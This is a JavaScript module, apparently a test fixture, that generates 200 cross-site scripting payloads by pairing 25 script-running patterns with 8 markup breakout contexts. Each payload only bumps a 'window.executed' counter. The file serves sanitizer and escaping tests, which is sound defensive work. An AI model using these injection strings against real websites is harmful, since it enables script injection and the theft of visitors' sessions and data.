// Two hundred texts that run a script, or break out of markup, where a page does not escape them: each way of running
// one in each place it could land in.
const run = "window.executed=(window.executed||0)+1";
const ways = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run.replaceAll(" ", "")}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button autofocus onfocus="${run}">x</button></form>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div hx-get="/history" hx-trigger="load" hx-on::after-request="${run}">x</div>`,
];
const places = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></script>${text}`,
  (text) => `--> ]]> ${text}`,
  (text) => `{{ ${text} }}`,
  (text) => `\u0000${text}\u202e`,
  (text) => `&lt;${text}&gt; ${text}`,
];
export const payloads = places.flatMap((place) => ways.map(place));
